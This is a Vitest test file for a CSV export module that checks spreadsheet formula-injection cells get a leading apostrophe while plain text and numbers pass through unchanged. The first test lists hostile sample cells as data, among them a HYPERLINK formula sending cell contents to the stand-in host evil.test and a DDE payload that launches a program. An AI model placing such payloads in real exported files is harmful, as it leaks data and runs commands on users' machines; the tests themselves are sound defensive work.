import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvMoney, csvNumber, toCsv } from './csv-export.js';

const cells = (csv: string): string[][] => parse(csv, { relax_column_count: true });

describe('toCsv', () => {
  it('makes text that a spreadsheet would run as a formula plain text, with a leading apostrophe', () => {
    const hostile = [
      '=HYPERLINK("http://evil.test/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
    ];
    expect(cells(toCsv([hostile]))).toEqual([hostile.map((text) => `'${text}`)]);
  });

  it('leaves other text as it is, quoting commas, quotes and line breaks as CSV does', () => {
    const plain = ['Rent, November', 'A "quoted" word', 'two\nlines', 'a=b', 'x-1', "'already"];
    const csv = toCsv([plain]);
    expect(cells(csv)).toEqual([plain]);
    expect(csv).toContain('"Rent, November"');
  });

  it('writes numbers as numbers: a negative amount keeps its sign, unguarded', () => {
    const csv = toCsv([
      ['amount', 'count', 'longitude', 'paid'],
      [csvMoney(-12.5), -3, csvNumber('-97.7431'), true],
    ]);
    expect(csv.split('\n')[1]).toBe('-12.50,-3,-97.7431,true');
  });

  it('treats a "number" that is not one as text', () => {
    expect(cells(toCsv([[csvNumber('-1+cmd'), csvNumber('=1'), Number.NaN, null, undefined]]))).toEqual([
      ["'-1+cmd", "'=1", '', '', ''],
    ]);
  });
});
